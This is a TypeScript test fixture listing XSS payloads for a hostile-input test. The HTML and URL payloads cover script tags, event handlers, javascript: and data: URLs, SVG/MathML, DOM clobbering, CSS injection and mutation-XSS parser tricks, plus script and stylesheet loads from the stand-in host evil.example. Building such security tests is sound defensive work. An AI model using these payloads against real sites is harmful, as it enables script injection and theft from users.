/**
 * Hostile server content: markup and addresses a compromised or careless server could send.
 * Each payload that ran would set `window.__xss` (or open a dialog, or change the title); the hostile-input
 * test serves them through every place the app shows server HTML, server text and server addresses.
 */
const RUN = 'window.__xss=1';

/** Markup: script tags, event handlers, dangerous URLs, SVG and MathML, DOM clobbering, CSS, mutation XSS. */
export const HTML_PAYLOADS: string[] = [
  // Script elements
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=data:text/javascript,${RUN}></SCRIPT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="module">${RUN}</script>`,
  // Event handlers
  `<img src=x onerror="${RUN}">`,
  `<img src="x" onerror=${RUN} alt="">`,
  `<body onload="${RUN}">`,
  `<div onmouseover="${RUN}" style="position:fixed;inset:0">hover</div>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<p onclick="${RUN}">click</p>`,
  `<IMG SRC=x ONERROR=${RUN}>`,
  `<img src=x oNeRrOr=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  // URLs in links, images and frames
  `<a href="javascript:${RUN}">link</a>`,
  `<a href="JaVaScRiPt:${RUN}">mixed case</a>`,
  `<a href="  javascript:${RUN}">spaces</a>`,
  `<a href="java&#x09;script:${RUN}">tab entity</a>`,
  `<a href="&#106;avascript:${RUN}">entity</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">data</a>`,
  `<a href="vbscript:msgbox(1)">vbscript</a>`,
  `<img src="javascript:${RUN}">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<form action="javascript:${RUN}"><button>send</button></form>`,
  `<button formaction="javascript:${RUN}">go</button>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  // SVG and MathML
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><animate attributeName="href" values="javascript:${RUN}"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  // DOM clobbering
  `<form id="location"></form><img name="cookie">`,
  `<a id="__xss" href="x">clobber</a>`,
  `<img name="getElementById">`,
  `<form name="body"><input name="appendChild"></form>`,
  // CSS injection
  `<style>body{display:none}</style>`,
  `<div style="background:url(javascript:${RUN})">bg</div>`,
  `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red">cover</div>`,
  `<p style="behavior:url(x.htc)">htc</p>`,
  // Mutation XSS and parser confusion
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mi><table><mi><style><img src=x onerror=${RUN}></style></mi></table></mi></math>`,
  `<template><script>${RUN}</script></template>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title><img src=x onerror=${RUN}></title>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  // Markup a tag-reading pass misreads: the parser ends raw text, escapable raw text, comments and CDATA
  // where a tag's attribute value seemed to go on, and reads a tag where its state said text.
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>">`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>">`,
  `<iframe><img title="</iframe><img src=x onerror=${RUN}>">`,
  `<noframes><img title="</noframes><img src=x onerror=${RUN}>">`,
  `<style><img title="</style><img src=x onerror=${RUN}>">`,
  `<script><img title="</script><img src=x onerror=${RUN}>">`,
  `<script><!--<script></script><img title="</script><img src=x onerror=${RUN}>">`,
  `<noscript><img title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><img title="</title><img src=x onerror=${RUN}>">`,
  `<!--x--!><img src=x onerror=${RUN}>`,
  `<? <img title="><img src=x onerror=${RUN}>">`,
  `<!x <img title="><img src=x onerror=${RUN}>">`,
  `</1 <img title="><img src=x onerror=${RUN}>">`,
  `<svg><![CDATA[<img title="]]><img src=x onerror=${RUN}>">]]></svg>`,
  `<math><mtext><![CDATA[<img title="]]><img src=x onerror=${RUN}>">]]></mtext></math>`,
  `<svg><foreignObject><xmp><img title="</xmp><img src=x onerror=${RUN}>"></foreignObject></svg>`,
  `<svg><desc><noframes><img title="</noframes><img src=x onerror=${RUN}>"></desc></svg>`,
  `<math><annotation-xml encoding="text/html"><noembed><img title="</noembed><img src=x onerror=${RUN}>"></annotation-xml></math>`,
  `<svg><xmp><img src=x onerror=${RUN}></xmp></svg>`,
  `<math><noembed><img src=x onerror=${RUN}></noembed></math>`,
  `<select><noembed><img title="</noembed><img src=x onerror=${RUN}>"></select>`,
  `<template><xmp><img title="</xmp><img src=x onerror=${RUN}>"></template>`,
  `<math><plaintext><img src=x onerror=${RUN}></plaintext></math>`,
  // Last: the rest of the markup after it is text.
  `<plaintext><img title="</plaintext><img src=x onerror=${RUN}>">`,
];

/** Addresses the server sends for pictures, videos, files, certificates and payment pages. */
export const URL_PAYLOADS: string[] = [
  `javascript:${RUN}`,
  `JAVASCRIPT:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  'vbscript:msgbox(1)',
];
